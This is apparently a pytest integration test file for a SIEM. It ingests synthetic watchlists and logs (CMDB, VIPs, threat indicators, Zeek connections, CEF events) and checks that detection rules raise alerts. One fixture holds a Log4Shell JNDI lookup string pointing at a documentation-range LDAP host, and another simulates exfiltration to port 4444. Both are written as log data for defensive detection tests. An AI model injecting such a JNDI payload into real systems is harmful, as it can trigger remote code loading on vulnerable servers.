"""The classes of data that a SIEM takes, each on its whole way: reference data as watchlists, unprocessed logs in the formats that their
products write, through the doors of a running server; a rule's query over them; and the alert with its entities."""

from __future__ import annotations

import json
import socket
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest

from tests.api.conftest import Running, serving
from vedette.core.accounts import local_operator
from vedette.core.ids import derived_id

WS = "/workspaces/default"
NOW = datetime.now(UTC).replace(microsecond=0)
JSON = {"Content-Type": "application/json"}


def ago(minutes: float) -> str:
    """A moment before the tests began, as logs write it."""
    return (NOW - timedelta(minutes=minutes)).strftime("%Y-%m-%dT%H:%M:%SZ")


@dataclass
class Site:
    """A running server, an analyst's client, and a sender's token."""

    running: Running
    client: httpx.Client
    token: str

    def send(self, path: str, content: str, **headers: str) -> None:
        """Gives a body to one of the doors."""
        given = {"Authorization": f"Bearer {self.token}"} | {k.replace("_", "-"): v for k, v in headers.items()}
        answer = httpx.post(f"{self.running.server.url}{path}", content=content.encode(), headers=given, timeout=60)
        assert answer.is_success, answer.text

    def rows(self, query: str) -> list[list[Any]]:
        """What a hunter's query finds once all that was accepted is in its table."""
        services = self.running.application.services(self.running.application.workspace("default"))
        assert services.intake.flush()
        answer = self.client.post(f"{WS}/query", json={"query": query})
        assert answer.is_success, answer.text
        return list(answer.json()["rows"])

    def wait_for(self, query: str) -> None:
        """Waits until a query finds a row."""
        deadline = time.monotonic() + 60
        while not self.rows(query):
            assert time.monotonic() < deadline, query
            time.sleep(0.05)

    def alerts(self, name: str, query: str, entities: dict[str, tuple[str, str]], period: str = "1d") -> list[Any]:
        """Imports a rule, runs it, and gives its alerts. Entities: type -> identifier and column."""
        rule = {
            "id": derived_id("classes of data", name), "name": name, "kind": "Scheduled", "severity": "High",
            "description": name, "query": query, "queryFrequency": "1h", "queryPeriod": period, "triggerOperator": "gt",
            "triggerThreshold": 0, "tactics": ["InitialAccess"], "relevantTechniques": ["T1078"], "version": "1.0.0",
            "entityMappings": [
                {"entityType": kind, "fieldMappings": [{"identifier": identifier, "columnName": column}]}
                for kind, (identifier, column) in entities.items()
            ],
        }  # fmt: skip
        self.rows("print 1")
        files = [{"name": "rule.yaml", "content": json.dumps(rule)}]
        made = self.client.post(f"{WS}/rules/import", json={"files": files}).json()
        assert not made.get("problems"), made
        run = self.client.post(f"{WS}/local/rules/run", json={"rule": rule["id"], "at": ago(0)})
        assert run.is_success, run.text
        return list(run.json()["alerts"])


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    with serving(tmp_path_factory.mktemp("classes") / "data", syslog_tcp=0) as running:
        services = running.application.services(running.application.workspace("default"))
        token = services.new_ingest_token("tests", 1, local_operator(running.data))["token"]
        with running.client() as client:
            yield Site(running, client, token)


@dataclass(frozen=True)
class Reference:
    """Reference data as its system exports it, logs to hold against it, and what a rule finds by the two together."""

    alias: str
    csv: str
    key: str
    logs: dict[str, list[dict[str, Any]]]
    query: str
    entities: dict[str, tuple[str, str]]
    found: list[dict[str, Any]]
    """Of each row that the rule finds, the columns that show it."""
    requirements: tuple[str, ...] = field(default=())


def failed(user: str, address: str, minutes: float, **more: Any) -> dict[str, Any]:
    return {
        "TimeGenerated": ago(minutes),
        "UserPrincipalName": user,
        "IPAddress": address,
        "ResultType": "50126",
    } | more


REFERENCES = {
    "cmdb": Reference(
        "CMDB", "Name,Owner,Environment,Status\nweb-01,shop-team,Production,Live\nlab-07,research,Test,Retired\n", "Name",
        {"CmdbLogon_CL": [{"TimeGenerated": ago(9), "Computer": "LAB-07", "User": "svc"},
                          {"TimeGenerated": ago(8), "Computer": "WEB-01", "User": "svc"}]},
        "CmdbLogon_CL | extend Name = tolower(Computer) | join kind=inner (_GetWatchlist('CMDB') | project SearchKey, Owner, Status) "
        "on $left.Name == $right.SearchKey | where Status == 'Retired'",
        {"Host": ("HostName", "Computer")}, [{"Computer": "LAB-07", "Owner": "research"}], ("P-061",),
    ),
    "high-value assets": Reference(
        "HighValueAssets", "Asset Type,Asset Id,Asset Name,Tags\nHost,1,dc01.contoso.example,Tier 0\nHost,2,pki.contoso.example,Tier 0\n",
        "Asset Name",
        {"HvaLogon_CL": [{"TimeGenerated": ago(n), "Computer": name} for n, name in enumerate(
            ["dc01.contoso.example", "dc01.contoso.example", "ws17.contoso.example", "dc01.contoso.example"], 3)]},
        "let assets = _GetWatchlist('HighValueAssets') | project SearchKey; HvaLogon_CL | where Computer in (assets) "
        "| summarize Failures = count() by Computer | where Failures >= 3",
        {"Host": ("FullName", "Computer")}, [{"Computer": "dc01.contoso.example", "Failures": 3}], ("P-062",),
    ),
    "important persons": Reference(
        "VIPs", "User Principal Name,Title\nada@contoso.example,Chief executive\n", "User Principal Name",
        {"SigninLogs": [failed("ada@contoso.example", "203.0.113.1", 5), failed("bob@contoso.example", "203.0.113.1", 5)]},
        "SigninLogs | where ResultType == '50126' | lookup kind=inner (_GetWatchlist('VIPs') | project SearchKey, Title) "
        "on $left.UserPrincipalName == $right.SearchKey",
        {"Account": ("FullName", "UserPrincipalName")}, [{"UserPrincipalName": "ada@contoso.example", "Title": "Chief executive"}],
        ("P-063",),
    ),
    "application dependencies": Reference(
        "AppDependencies", "Application,DependsOn,Criticality\npayroll,sql-7,High\nintranet,sql-7,Low\nshop,sql-9,High\n", "Application",
        {"DatabaseState_CL": [{"TimeGenerated": ago(4), "Computer": "sql-7", "State": "offline"},
                              {"TimeGenerated": ago(4), "Computer": "sql-9", "State": "online"}]},
        "DatabaseState_CL | where State == 'offline' | join kind=inner (_GetWatchlist('AppDependencies')) on $left.Computer == $right.DependsOn "
        "| summarize Applications = array_sort_asc(make_set(Application)), Worst = make_set_if(Application, Criticality == 'High') by Computer",
        {"Host": ("HostName", "Computer")}, [{"Computer": "sql-7", "Applications": ["intranet", "payroll"], "Worst": ["payroll"]}],
        ("P-064",),
    ),
    "assignments of addresses": Reference(
        "Leases", f"Address,Host,From,To\n10.0.0.5,ws-old,{ago(600)},{ago(300)}\n10.0.0.5,ws-new,{ago(300)},{ago(0)}\n", "Address",
        {"CommonSecurityLog": [{"TimeGenerated": ago(400), "SourceIP": "10.0.0.5", "DestinationIP": "198.51.100.66",
                                "DeviceVendor": "Leased"}]},
        "CommonSecurityLog | where DeviceVendor == 'Leased' | join kind=inner (_GetWatchlist('Leases')) on $left.SourceIP == $right.SearchKey "
        "| where TimeGenerated between (todatetime(From) .. todatetime(To)) | project TimeGenerated, SourceIP, Host",
        {"Host": ("HostName", "Host"), "IP": ("Address", "SourceIP")}, [{"SourceIP": "10.0.0.5", "Host": "ws-old"}], ("P-065",),
    ),
    "collection of indicators": Reference(
        "Indicators", "Indicator,Type,Actor\nbad.example,domain,Storm-1\n198.51.100.7,ip,Storm-2\n", "Indicator",
        {"DnsEvents": [{"TimeGenerated": ago(6), "Name": "cdn.bad.example", "ClientIP": "10.0.0.8"},
                       {"TimeGenerated": ago(6), "Name": "good.example", "ClientIP": "10.0.0.9"}]},
        "let listed = _GetWatchlist('Indicators') | where Type == 'domain' | project SearchKey, Actor; DnsEvents "
        "| extend Parent = strcat_array(array_slice(split(Name, '.'), -2, -1), '.') | join kind=inner listed on $left.Parent == $right.SearchKey",
        {"DNS": ("DomainName", "Name"), "IP": ("Address", "ClientIP")}, [{"Name": "cdn.bad.example", "Actor": "Storm-1"}], ("P-066",),
    ),
    "vulnerabilities": Reference(
        "Vulnerabilities", "Host,CVE,CVSS\nweb-02,CVE-2021-44228,10.0\nweb-03,CVE-2023-0001,4.3\n", "Host",
        {"CommonSecurityLog": [{"TimeGenerated": ago(2), "DeviceVendor": "Ips", "DestinationHostName": name,
                                "Message": "${jndi:ldap://198.51.100.9/a}"} for name in ("web-02", "web-03", "web-04")]},
        "CommonSecurityLog | where DeviceVendor == 'Ips' and Message has 'jndi' | join kind=inner (_GetWatchlist('Vulnerabilities') "
        "| where todouble(CVSS) >= 9) on $left.DestinationHostName == $right.SearchKey",
        {"Host": ("HostName", "DestinationHostName")}, [{"DestinationHostName": "web-02", "CVE": "CVE-2021-44228"}], ("P-067",),
    ),
    "registrations of domains": Reference(
        "WhoIs", f"domainName,registrarName,createdDate\nyoung.example,Cheap Names,{ago(60 * 24 * 3)}\nold.example,Old Names,2001-02-03T00:00:00Z\n",
        "domainName",
        {"WebProxy_CL": [{"TimeGenerated": ago(7), "Url": f"https://{name}/login", "User": "pat"} for name in ("young.example", "old.example")]},
        "WebProxy_CL | extend Domain = tostring(parse_url(Url).Host) | lookup kind=inner (_GetWatchlist('WhoIs') "
        "| project SearchKey, registrarName, Created = todatetime(createdDate)) on $left.Domain == $right.SearchKey | where TimeGenerated - Created < 30d",
        {"URL": ("Url", "Url")}, [{"Domain": "young.example", "registrarName": "Cheap Names"}], ("P-071",),
    ),
    "newly observed domains": Reference(
        "NewDomains", f"domain,firstSeen\nfresh.example,{ago(90)}\n", "domain",
        {"MailLinks_CL": [{"TimeGenerated": ago(5), "Url": f"https://{name}/invoice", "Recipient": "pat@contoso.example"}
                          for name in ("fresh.example", "known.example")]},
        "MailLinks_CL | where tostring(parse_url(Url).Host) in ((_GetWatchlist('NewDomains') | where todatetime(firstSeen) > ago(1d) | project SearchKey))",
        {"URL": ("Url", "Url"), "Account": ("FullName", "Recipient")}, [{"Url": "https://fresh.example/invoice"}], ("P-073",),
    ),
}  # fmt: skip


@pytest.mark.req("P-031")
@pytest.mark.parametrize(
    "kind", [pytest.param(kind, marks=pytest.mark.req(*one.requirements), id=kind) for kind, one in REFERENCES.items()]
)
def test_reference_data_in_place_makes_alerts(site: Site, kind: str) -> None:
    one = REFERENCES[kind]
    made = site.client.put(f"{WS}/watchlists/{one.alias}", json={"content": one.csv, "searchKey": one.key})
    assert made.is_success, made.text
    for table, rows in one.logs.items():
        site.send(f"/ingest/{table}", json.dumps(rows), **JSON)
    [alert] = site.alerts(kind, one.query, one.entities)
    assert [
        {name: row[name] for name in shown} for row, shown in zip(alert["sample"], one.found, strict=True)
    ] == one.found
    assert {entity["type"] for entity in alert["entities"]} == set(one.entities)
    # what the list says counts from the next run on: the reference data is looked at where it is
    nothing = (
        ",".join(one.csv.split("\n", 1)[0].split(","))
        + "\n"
        + ",".join("-" for _ in one.csv.split("\n", 1)[0].split(","))
        + "\n"
    )
    assert site.client.put(f"{WS}/watchlists/{one.alias}", json={"content": nothing, "searchKey": one.key}).is_success
    assert site.alerts(kind, one.query, one.entities) == []


@pytest.mark.req("P-069", "P-074")
def test_historical_data_is_looked_up_where_it_lies(site: Site) -> None:
    """Rows of last year, which have left the store for the lake, decide what is new today; nothing is brought back for it."""
    rows = [{"TimeGenerated": ago(60 * 24 * 200), "Partner": name} for name in ("known.example", "other.example")]
    rows += [{"TimeGenerated": ago(3), "Partner": name} for name in ("known.example", "never-seen.example")]
    site.send("/ingest/Partners_CL", json.dumps(rows), **JSON)
    assert site.rows("Partners_CL | count") == [[4]]
    kept = {"interactiveDays": 30, "totalDays": 730}
    assert site.client.put(f"{WS}/tables/Partners_CL/retention", json=kept).is_success
    moved = site.client.post(f"{WS}/retention/run").json()["tables"]
    assert [one["moved_rows"] for one in moved if one["table"] == "Partners_CL"] == [2]
    query = (
        "let before = Partners_CL | where TimeGenerated between (ago(365d) .. ago(1d)) | distinct Partner;"
        "Partners_CL | where TimeGenerated > ago(1d) | where Partner !in (before)"
    )
    [[partner]] = site.rows(f"{query} | project Partner")
    assert partner == "never-seen.example"
    shown = site.client.get(f"{WS}/tables/Partners_CL").json()
    assert (shown["rows"], shown["lake"]["rows"]) == (4, 2)


def zeek(minutes: float, number: int, port: int = 443, sent: int = 900) -> dict[str, Any]:
    """A line of Zeek's conn.log in JSON."""
    return {
        "ts": (NOW - timedelta(minutes=minutes)).timestamp(), "uid": f"C{number}", "id.orig_h": "10.0.0.5", "id.orig_p": 50_000 + number,
        "id.resp_h": "198.51.100.9", "id.resp_p": port, "proto": "tcp", "service": "ssl", "duration": 0.5, "orig_bytes": sent,
        "resp_bytes": 4_000, "conn_state": "SF", "@timestamp": ago(minutes),
    }  # fmt: skip


@pytest.mark.req("P-040", "P-035")
def test_a_cloud_application_security_broker(site: Site) -> None:
    """Defender for Cloud Apps' SIEM agent writes CEF; the broker's event becomes an alert about the person and the application."""
    start = int((NOW - timedelta(minutes=4)).timestamp() * 1000)
    line = (
        f"{ago(4)} CAS-SERVER CEF:0|MCAS|SIEM_Agent|0.111.85|EVENT_CATEGORY_MASS_DOWNLOAD|Mass download|8|externalId=6764 rt={start} "
        f"start={start} end={start} msg=Mass download: user Ada (ada@contoso.example) suser=ada@contoso.example "
        "destinationServiceName=Microsoft SharePoint Online dvc=203.0.113.4 requestClientApplication=Mozilla/5.0 (X11\\\\; Linux) cs1Label=portalURL "
        "cs1=https://contoso.portal.cloudappsecurity.com/#/audits?activity.id\\=eq(AV,) cs2Label=uniqueServiceAppIds cs2=APPID_20892 "
        'cs3Label=targetObjects cs3=plan.docx,Ada c6a1Label="Device IPv6 Address" c6a1=\n'
    )
    with socket.create_connection(("127.0.0.1", site.running.server.listeners.ports["tcp"]), timeout=60) as sender:
        sender.sendall(line.encode())
        site.wait_for("CommonSecurityLog | where DeviceVendor == 'MCAS'")
    query = "CommonSecurityLog | where DeviceVendor == 'MCAS' and DeviceEventClassID has 'MASS_DOWNLOAD'"
    [alert] = site.alerts(
        "mass download", query, {"Account": ("FullName", "SourceUserName"), "IP": ("Address", "DeviceAddress")}
    )
    [row] = alert["sample"]
    assert (row["SourceUserName"], row["DestinationServiceName"]) == (
        "ada@contoso.example",
        "Microsoft SharePoint Online",
    )
    assert row["DeviceCustomString1"] == "https://contoso.portal.cloudappsecurity.com/#/audits?activity.id=eq(AV,)"


@pytest.mark.req("P-029", "P-041", "P-042", "P-046")
def test_badge_readers_and_a_business_application_together(site: Site) -> None:
    """A door controller's webhook and an in-house application over the Logs Ingestion API: who books from inside without having entered."""
    badge = [
        {"event_time": ago(50), "event_type": "door_granted", "site": "Lisbon", "door": {"id": 7, "name": "Main entrance"},
         "cardholder": {"email": "ada@contoso.example", "card": "0004711"}},
        {"event_time": ago(49), "event_type": "door_rejected", "site": "Lisbon", "door": {"id": 7, "name": "Main entrance"},
         "cardholder": {"email": "eve@contoso.example", "card": "0000666"}},
    ]  # fmt: skip
    columns = [{"name": "event_time", "type": "datetime"}, {"name": "event_type", "type": "string"}, {"name": "site", "type": "string"},
               {"name": "door", "type": "dynamic"}, {"name": "cardholder", "type": "dynamic"}]  # fmt: skip
    flow = {
        "transformKql": "source | extend TimeGenerated = event_time",
        "outputStream": "Custom-PhysicalAccess_CL",
    }
    made = site.client.put(
        f"{WS}/transformations/Custom-PhysicalAccess_CL", json={"dataFlows": [flow], "columns": columns}
    )
    assert made.is_success, made.text
    for one in badge:
        site.send("/ingest/PhysicalAccess_CL", json.dumps(one), **JSON)
    bookings = [
        {
            "TimeGenerated": ago(10),
            "Action": "approve-payment",
            "By": f"{name}@contoso.example",
            "Amount": 91_000.5,
            "Terminal": "LIS-4",
        }
        for name in ("ada", "eve")
    ]
    stream = "/dataCollectionRules/dcr-default/streams/Custom-Payroll_CL?api-version=2023-01-01"
    site.send(stream, json.dumps(bookings), **JSON)
    query = (
        "let inside = PhysicalAccess_CL | where event_type == 'door_granted' | project Who = tostring(cardholder.email);"
        "Payroll_CL | where Terminal startswith 'LIS' and Amount > 50000 | where By !in (inside)"
    )
    [alert] = site.alerts("booked without entering", query, {"Account": ("FullName", "By")})
    assert [row["By"] for row in alert["sample"]] == ["eve@contoso.example"]
    assert site.rows("PhysicalAccess_CL | where event_type == 'door_rejected' | project tostring(door.name)") == [
        ["Main entrance"]
    ]


@pytest.mark.req("P-044", "P-047")
def test_network_metadata_serves_hunting_and_both_ways_of_detection(site: Site) -> None:
    """Zeek's connections through Elasticsearch's bulk API: a hunter's query, a rule by its query, and a rule by an anomaly of a series."""
    lines = [zeek(60 * hour + 30, hour) for hour in range(1, 40)] + [zeek(90, 100, port=4444, sent=9_000_000)]
    bulk = "".join(f'{{"create": {{"_id": "{one["uid"]}"}}}}\n{json.dumps(one)}\n' for one in lines)
    site.send("/zeek-conn/_bulk", bulk, Content_Type="application/x-ndjson")
    hunted = site.rows(
        "zeek_conn_CL | summarize Connections = count(), Sent = sum(orig_bytes) by Port = ['id.resp_p'] | sort by Sent desc"
    )
    assert hunted == [[4444, 1, 9_000_000], [443, 39, 39 * 900]]
    [alert] = site.alerts(
        "port of a back door", "zeek_conn_CL | where ['id.resp_p'] == 4444 | extend From = ['id.orig_h']", {"IP": ("Address", "From")}
    )  # fmt: skip
    assert [entity["type"] for entity in alert["entities"]] == ["IP"]
    learned = (
        "zeek_conn_CL | make-series Sent = sum(orig_bytes) on TimeGenerated from bin(ago(41h), 1h) to now() step 1h by From = ['id.orig_h'] "
        "| extend (Flags, Score, Baseline) = series_decompose_anomalies(Sent, 3.0) | mv-expand Flags to typeof(long), Sent to typeof(long) | where Flags == 1"
    )
    [anomaly] = site.alerts("unusual amount of data", learned, {"IP": ("Address", "From")}, period="2d")
    assert [row["Sent"] > 9_000_000 for row in anomaly["sample"]] == [True]
